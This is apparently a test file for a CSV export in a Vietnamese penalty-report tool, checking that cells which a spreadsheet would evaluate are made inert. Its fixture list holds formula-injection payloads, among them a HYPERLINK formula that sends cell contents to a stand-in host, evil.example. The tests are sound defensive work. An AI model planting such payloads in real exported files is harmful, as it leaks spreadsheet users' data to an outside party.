import { inertText, parseCsv, sheetCsv } from './csv';
import { type ReportSheet, ReportSheetKey } from './sheets';

/** Issue 12 finding 7: text a spreadsheet would evaluate is written inert; numbers stay numbers. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1;"Bấm vào đây")',
  '+1+1',
  '-2+3',
  '@SUM(1;2)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'Vi phạm;=1+1',
  'Quảng cáo, "tin" và\r\nbình luận',
];

const sheet = (labels: string[]): ReportSheet => ({
  key: ReportSheetKey.ByCatalogueCode,
  name: 'Theo hành vi',
  title: 'Xử phạt theo hành vi vi phạm',
  columns: [
    { header: 'Hành vi vi phạm', format: 'text', width: 40 },
    { header: 'Tiền phạt', format: 'vnd', width: 20 },
  ],
  rows: labels.map((label, i) => [label, i % 2 === 0 ? -1_500_000 : 25_000_000]),
  hasTotal: false,
});

/** What a spreadsheet evaluates: a cell that opens with one of these characters. */
const live = (cell: string): boolean => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell);

describe('formula injection in CSV (issue 12 finding 7)', () => {
  it('should prefix an apostrophe to text that opens with a formula character, and leave other text alone', () => {
    expect(inertText('=1+1')).toBe("'=1+1");
    expect(inertText('-2')).toBe("'-2");
    expect(inertText('@A1')).toBe("'@A1");
    expect(inertText('\t=1')).toBe("'\t=1");
    expect(inertText('Tạp chí (in, điện tử)')).toBe('Tạp chí (in, điện tử)');
    expect(inertText('')).toBe('');
  });

  it('should write no cell that a spreadsheet evaluates, split on "," or on ";" as with Vietnamese regional settings', () => {
    const csv = sheetCsv(sheet(HOSTILE));
    for (const separator of [',', ';'] as const) {
      const cells = parseCsv(csv, separator).flat();
      expect(cells.filter((c) => live(c) && !/^-\d+$/.test(c))).toEqual([]);
    }
    const rows = parseCsv(csv);
    expect(rows.slice(1).map((r) => r[0])).toEqual(HOSTILE.map((h) => (live(h) ? `'${h}` : h)));
  });

  it('should quote a field holding ";" so that Excel with Vietnamese settings keeps it one cell', () => {
    const csv = sheetCsv(sheet(['Vi phạm;=1+1']));
    expect(csv.split('\r\n')[1]).toBe('"Vi phạm;=1+1",-1500000');
    expect(parseCsv(csv, ';')[1]).toEqual(['Vi phạm;=1+1,-1500000']);
  });

  it('should keep numbers as numbers, negative ones included', () => {
    const rows = parseCsv(sheetCsv(sheet(['Một', 'Hai'])));
    expect(rows.slice(1).map((r) => r[1])).toEqual(['-1500000', '25000000']);
  });
});
